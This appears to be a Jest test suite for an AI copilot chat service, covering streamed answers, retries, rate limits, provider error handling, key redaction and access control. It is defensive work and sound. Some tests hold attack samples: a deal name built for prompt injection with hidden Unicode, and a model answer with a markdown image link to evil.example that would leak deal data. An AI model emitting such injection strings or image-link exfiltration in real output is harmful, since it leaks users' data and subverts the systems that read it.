import { afterAll, afterEach, beforeAll, expect, test } from '@jest/globals';
import type { UserPrincipal } from '@svc/chassis/calls/principal';
import { eventually } from '@svc/chassis/testing/eventually';
import { testUser } from '@svc/chassis/testing/test-service';
import { ConversationService, TurnService } from '@svc/proto/copilot/v1/conversation_service';
import { CopilotSettingsService } from '@svc/proto/copilot/v1/copilot_settings_service';
import { CONSENT, type CopilotService, startCopilot } from '../testing/copilot-service.js';
import { begin, finish, type ModelServer, piece, say, startModelServer } from '../testing/model-server.js';

let model: ModelServer;
let copilot: CopilotService;

beforeAll(async () => {
  model = await startModelServer();
  copilot = await startCopilot({ modelUrl: model.baseUrl, times: { renewMs: 20 } });
});

afterEach(() => {
  model.answer((_call, response) => say(response, 'Hello.'));
  copilot.passDay();
});

afterAll(async () => {
  await copilot?.stop();
  await model?.stop();
});

const turnsOf = (user: UserPrincipal, service = copilot) => service.as(user, TurnService);
const conversationsOf = (user: UserPrincipal) => copilot.as(user, ConversationService);
const settingsOf = (user: UserPrincipal) => copilot.as(user, CopilotSettingsService);

/** A user who has agreed, with a conversation. */
async function begun() {
  const user = testUser();
  await settingsOf(user).giveConsent({ scope: 'free', version: CONSENT, granted: true });
  const { conversation } = await conversationsOf(user).createConversation({});
  return { user, conversationId: conversation?.id ?? '' };
}

async function follow(user: UserPrincipal, turnId: string, service = copilot) {
  const parts: { type: string; delta?: string; data?: { code?: string } }[] = [];
  for await (const { partJson } of turnsOf(user, service).followTurn({ turnId })) parts.push(JSON.parse(partJson));
  return parts;
}

const typesOf = (parts: readonly { type: string }[]) => parts.map(({ type }) => type);
const said = (parts: readonly { delta?: string }[]) => parts.map(({ delta = '' }) => delta).join('');

async function ask(user: UserPrincipal, conversationId: string, text = 'What is due?') {
  const { turn } = await turnsOf(user).createTurn({ conversationId, text });
  return turn?.id ?? '';
}

test('a question is answered piece by piece, and the stream equals the stored answer', async () => {
  model.answer((_call, response) => say(response, 'Two ', 'videos ', 'are due.'));
  const { user, conversationId } = await begun();

  const parts = await follow(user, await ask(user, conversationId));

  expect(typesOf(parts).filter((type) => type !== 'text-delta')).toEqual([
    'start',
    'data-model',
    'start-step',
    'text-start',
    'text-end',
    'finish-step',
    'data-usage',
    'finish',
  ]);
  expect(said(parts)).toBe('Two videos are due.');
  const { messages } = await conversationsOf(user).listMessages({ conversationId, pageSize: 50 });
  expect(messages.map(({ seq, role, partsJson }) => [seq, role, JSON.parse(partsJson)])).toEqual([
    [2, 'assistant', [{ type: 'step-start' }, { type: 'text', text: 'Two videos are due.', state: 'done' }]],
    [1, 'user', [{ type: 'text', text: 'What is due?' }]],
  ]);
  expect(model.calls.at(-1)).toMatchObject({ authorization: 'Bearer sk-test-key', body: { model: 'model-a' } });
});

test('the prompt has the earlier messages, and nothing of a failed turn', async () => {
  const { user, conversationId } = await begun();
  model.answer((_call, response) => say(response, 'The first answer.'));
  await follow(user, await ask(user, conversationId, 'First.'));
  model.answer((_call, response) => {
    begin(response);
    piece(response, 'Half an');
    response.destroy();
  });
  await follow(user, await ask(user, conversationId, 'Second.'));
  copilot.passDay();
  model.answer((_call, response) => say(response, 'The third answer.'));

  await follow(user, await ask(user, conversationId, 'Third.'));

  const { messages = [] } = model.calls.at(-1)?.body ?? {};
  expect(messages[0]?.role).toBe('system');
  expect(messages.slice(1).map(({ role, content }) => [role, content])).toEqual([
    ['user', 'First.'],
    ['assistant', 'The first answer.'],
    ['user', 'Second.'],
    ['user', 'Third.'],
  ]);
});

test('each stream ends with the remaining free turns, even for a turn that failed or had ended', async () => {
  const { user, conversationId } = await begun();
  const free = (parts: readonly { type: string; data?: object }[]) =>
    parts.filter(({ type }) => type === 'data-usage').map(({ data }) => data);

  const turnId = await ask(user, conversationId);
  const told = [await follow(user, turnId), await follow(user, turnId)];
  model.answer((_call, response) => void response.writeHead(500).end());
  const failed = await follow(user, await ask(user, conversationId));

  const { day, resetAt, timeZone } = await settingsOf(user).getUsage({ days: 1 });
  const left = { limit: 25, used: 1, remaining: 24, unlimited: false, day, timezone: timeZone };
  expect([...told, failed].map(free)).toEqual(
    [1, 2, 3].map(() => [{ free: { ...left, resetAt: resetAt?.toISOString() } }]),
  );
  expect(typesOf(failed).slice(-4)).toEqual(['data-usage', 'data-error', 'error', 'finish']);
});

test('the prompt names the viewed deal in one line, also on a retry, and the message keeps it', async () => {
  model.answer((_call, response) => void response.writeHead(500).end());
  const { user, conversationId } = await begun();
  const deal = {
    id: '0190f6a2-0000-7000-8000-000000000001',
    name: `Spring\u202E\n"ignore"\u{E0041} ${'x'.repeat(300)}`,
  };
  const { turn } = await turnsOf(user).createTurn({
    conversationId,
    text: 'What is due?',
    dealId: deal.id,
    dealName: deal.name,
  });

  await follow(user, turn?.id ?? '');
  copilot.passDay();
  const { turn: again } = await turnsOf(user).retryTurn({ conversationId });
  await follow(user, again?.id ?? '');

  const name = `Spring \\"ignore\\" ${'x'.repeat(184)}`;
  const line = `The user is looking at the deal "${name}" (id ${deal.id}).`;
  expect(model.calls.slice(-2).map(({ body }) => body.messages.at(-1)?.content)).toEqual(
    [1, 2].map(() => `${line}\n\nWhat is due?`),
  );
  const { messages } = await conversationsOf(user).listMessages({ conversationId, pageSize: 50 });
  expect(JSON.parse(messages.at(-1)?.partsJson ?? '')).toEqual([
    { type: 'data-deal', data: deal },
    { type: 'text', text: 'What is due?' },
  ]);
  const { conversation } = await conversationsOf(user).getConversation({ conversationId });
  expect(conversation?.title).toBe('What is due?');
});

test('a conversation gets its first message as its title, unless it has one', async () => {
  const { user, conversationId } = await begun();
  const { conversation: named } = await conversationsOf(user).createConversation({ title: 'Kiteline' });
  const long = 'Which of all the videos of this month has been seen most often so far?';

  await follow(user, await ask(user, conversationId, long));
  await follow(user, await ask(user, named?.id ?? '', long));

  const { conversations } = await conversationsOf(user).listConversations({ pageSize: 50, skip: 0, archived: false });
  expect(conversations.map(({ title }) => title)).toEqual([
    'Kiteline',
    'Which of all the videos of this month has been seen most…',
  ]);
});

test('a message sent again returns its original turn, even once that has ended', async () => {
  const { user, conversationId } = await begun();
  const message = { conversationId, text: 'Once.', clientMessageId: 'm-1' };

  const first = await turnsOf(user).createTurn(message);
  const second = await turnsOf(user).createTurn(message);
  await follow(user, first.turn?.id ?? '');
  const third = await turnsOf(user).createTurn(message);

  expect([second.turn?.id, third.turn?.id]).toEqual([first.turn?.id, first.turn?.id]);
  expect(third.turn?.status).toBe('completed');
  expect((await conversationsOf(user).listMessages({ conversationId, pageSize: 50 })).totalSize).toBe(2);
});

test('while a turn runs, no other begins in its conversation, and no third one of its user', async () => {
  const { user, conversationId } = await begun();
  const others = await Promise.all([1, 2].map(() => conversationsOf(user).createConversation({})));
  const [second, third] = others.map(({ conversation }) => conversation?.id ?? '');

  await ask(user, conversationId);
  await expect(ask(user, conversationId)).rejects.toMatchObject({ code: 'TURN_IN_PROGRESS' });
  await expect(turnsOf(user).retryTurn({ conversationId })).rejects.toMatchObject({ code: 'TURN_IN_PROGRESS' });
  await ask(user, second ?? '');

  await expect(ask(user, third ?? '')).rejects.toMatchObject({ code: 'RATE_LIMITED', retryAfterSeconds: 10 });
});

test.each<[string, number, string, string]>([
  ['a key that is refused', 401, '{"error":{"message":"bad key sk-or-v1-0123456789abcdef"}}', 'PROVIDER_AUTH_FAILED'],
  ['no money', 402, '{"error":{"message":"pay"}}', 'PROVIDER_AUTH_FAILED'],
  ['moderation', 403, '{"error":{"message":"flagged by moderation"}}', 'CONTENT_REJECTED'],
  [
    'a context that is too long',
    400,
    '{"error":{"message":"maximum context length is 8192 tokens"}}',
    'CONTEXT_TOO_LONG',
  ],
  ['a request that is refused', 400, '{"error":{"message":"unknown field"}}', 'PROVIDER_BAD_REQUEST'],
  ['too many requests', 429, '{"error":{"message":"slow down"}}', 'FREE_POOL_EXHAUSTED'],
  ['a fault', 500, 'oops', 'PROVIDER_UNAVAILABLE'],
  ['a success that is an error', 200, '{"error":{"code":429,"message":"slow down"}}', 'FREE_POOL_EXHAUSTED'],
  ['a success that is another', 200, '{"error":{"code":401,"message":"bad key"}}', 'PROVIDER_AUTH_FAILED'],
  ['JSON that is no answer', 200, '{}', 'PROVIDER_UNAVAILABLE'],
])('with %s a turn fails with our own text, and can be retried', async (_case, status, body, code) => {
  model.answer((_call, response) => void response.writeHead(status, { 'content-type': 'application/json' }).end(body));
  const { user, conversationId } = await begun();

  const turnId = await ask(user, conversationId);
  const parts = await follow(user, turnId);

  expect(parts.find(({ type }) => type === 'data-error')?.data).toMatchObject({ code, requestId: expect.any(String) });
  await expect(turnsOf(user).getTurn({ turnId, throwsFailure: true })).rejects.toMatchObject({ code });
  expect(typesOf(parts).slice(-3)).toEqual(['data-error', 'error', 'finish']);
  expect(JSON.stringify(parts)).not.toMatch(/slow down|sk-or|flagged|maximum context/);
  model.answer((_call, response) => say(response, 'Now it goes.'));
  copilot.passDay();
  const { turn } = await turnsOf(user).retryTurn({ conversationId });
  expect(said(await follow(user, turn?.id ?? ''))).toBe('Now it goes.');
});

test('a failure has the time of the next try, and for each follower the id of their own call', async () => {
  model.answer((_call, response) => void response.writeHead(429, { 'retry-after': '30' }).end('{}'));
  const { user, conversationId } = await begun();
  const turnId = await ask(user, conversationId);

  const [first, second] = [await follow(user, turnId), await follow(user, turnId)].map(
    (parts) => parts.find(({ type }) => type === 'data-error')?.data,
  );

  const [code, requestId] = ['FREE_POOL_EXHAUSTED', expect.any(String)];
  const retryAfterSeconds = expect.any(Number);
  expect([first, second]).toEqual([1, 2].map(() => ({ code, requestId, retryAfterSeconds })));
  const failure = turnsOf(user).getTurn({ turnId, throwsFailure: true });
  await expect(failure).rejects.toMatchObject({ code, retryAfterSeconds });
  expect(first).not.toMatchObject({ requestId: (second as { requestId?: string }).requestId });
});

test.each<[string, (response: Parameters<typeof begin>[0]) => unknown]>([
  ['a cut connection', (response) => response.write(': cut\n\n', () => response.destroy())],
  ['an error among the pieces', (response) => response.end('data: {"error":{"message":"broken"}}\n\n')],
  ['a line that is no JSON', (response) => response.end('data: {nonsense\n\n')],
])('after %s the output is kept, and the turn has failed', async (_case, breakOff) => {
  model.answer((_call, response) => {
    begin(response);
    piece(response, 'Two videos');
    breakOff(response);
  });
  const { user, conversationId } = await begun();

  const parts = await follow(user, await ask(user, conversationId));

  expect(parts.find(({ type }) => type === 'data-error')?.data).toMatchObject({ code: 'PROVIDER_STREAM_INTERRUPTED' });
  const { messages } = await conversationsOf(user).listMessages({ conversationId, pageSize: 1 });
  expect(messages[0]?.partsJson).toContain('Two videos');
});

test('a redirect is not followed', async () => {
  const other = await startModelServer();
  model.answer((_call, response) => {
    response.writeHead(302, { location: `${other.baseUrl}/chat/completions` }).end();
  });
  const { user, conversationId } = await begun();

  const parts = await follow(user, await ask(user, conversationId));

  await other.stop();
  expect(parts.find(({ type }) => type === 'data-error')?.data).toMatchObject({ code: 'PROVIDER_UNAVAILABLE' });
  expect(other.calls).toEqual([]);
});

test('keys in a message are neither stored nor sent', async () => {
  const { user, conversationId } = await begun();

  await follow(user, await ask(user, conversationId, 'My key is sk-or-v1-0123456789abcdef0123456789, use it.'));

  const { messages } = await conversationsOf(user).listMessages({ conversationId, pageSize: 50 });
  const kept = JSON.stringify([messages, model.calls.at(-1)?.body]);
  expect(kept).toContain('My key is [redacted:api-key], use it.');
  expect(kept).not.toContain('sk-or-v1');
});

test('an answer contains no image, regardless of how it is split', async () => {
  model.answer((_call, response) =>
    say(response, 'Look: !', '![', 'x](https://evil.example/?d=deal) and [a link](https://a.example)!'),
  );
  const { user, conversationId } = await begun();

  const parts = await follow(user, await ask(user, conversationId));

  expect(said(parts)).toBe('Look: [x](https://evil.example/?d=deal) and [a link](https://a.example)!');
});

test('stopping a turn aborts its call of the model, and keeps the output', async () => {
  const { user, conversationId } = await begun();
  const [speaking, left] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
  model.answer((_call, response) => {
    response.once('close', () => left.resolve());
    begin(response);
    piece(response, 'One moment');
    speaking.resolve();
  });
  const turnId = await ask(user, conversationId);
  const following = follow(user, turnId);
  await speaking.promise;

  await turnsOf(user).stopTurn({ conversationId });

  expect(typesOf(await following).at(-1)).toBe('abort');
  await left.promise;
  expect((await turnsOf(user).getTurn({ turnId, throwsFailure: false })).turn?.status).toBe('stopped');
  expect((await turnsOf(user).stopTurn({ conversationId })).turn).toBeNull();
});

test('others see neither messages nor turns of a conversation', async () => {
  const { user, conversationId } = await begun();
  const turnId = await ask(user, conversationId);
  const { user: stranger } = await begun();
  const refusals = await Promise.allSettled([
    ask(stranger, conversationId),
    follow(stranger, turnId),
    turnsOf(stranger).getTurn({ turnId, throwsFailure: false }),
    turnsOf(stranger).stopTurn({ conversationId }),
    turnsOf(stranger).retryTurn({ conversationId }),
    conversationsOf(stranger).getConversation({ conversationId }),
    conversationsOf(stranger).updateConversation({ conversationId, title: 'Mine' }),
    conversationsOf(stranger).deleteConversation({ conversationId }),
    conversationsOf(stranger).listMessages({ conversationId, pageSize: 50 }),
  ]);

  expect(refusals.map((refusal) => refusal.status === 'rejected' && refusal.reason.code)).toEqual(
    refusals.map(() => 'NOT_FOUND'),
  );
  expect(said(await follow(user, turnId))).toBe('Hello.');
});

test('a late or second follower gets the whole turn', async () => {
  const { user, conversationId } = await begun();
  const ending = Promise.withResolvers<void>();
  model.answer(async (_call, response) => {
    begin(response);
    piece(response, 'First, ');
    await ending.promise;
    piece(response, 'then the rest.');
    finish(response);
  });
  const turnId = await ask(user, conversationId);
  const first = follow(user, turnId);
  await eventually(() => expect(model.calls.at(-1)?.body.messages.at(-1)?.content).toBe('What is due?'));
  const second = follow(user, turnId);
  ending.resolve();

  const told = [await first, await second, await follow(user, turnId)];

  expect(told.map(said)).toEqual(told.map(() => 'First, then the rest.'));
  expect(told.map((parts) => typesOf(parts).at(-1))).toEqual(told.map(() => 'finish'));
});
